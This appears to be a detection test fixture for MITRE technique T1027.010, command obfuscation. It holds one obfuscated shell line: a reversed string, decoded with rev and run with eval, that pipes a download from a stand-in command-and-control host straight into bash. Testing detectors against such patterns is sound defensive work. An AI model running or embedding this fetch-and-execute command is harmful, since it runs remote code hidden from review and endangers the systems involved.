# expect: decoded-code-run | source: T1027.010
eval "$(echo 'hsab | dilavni.elpmaxe.2c//:sptth sl- lruc' | rev)"
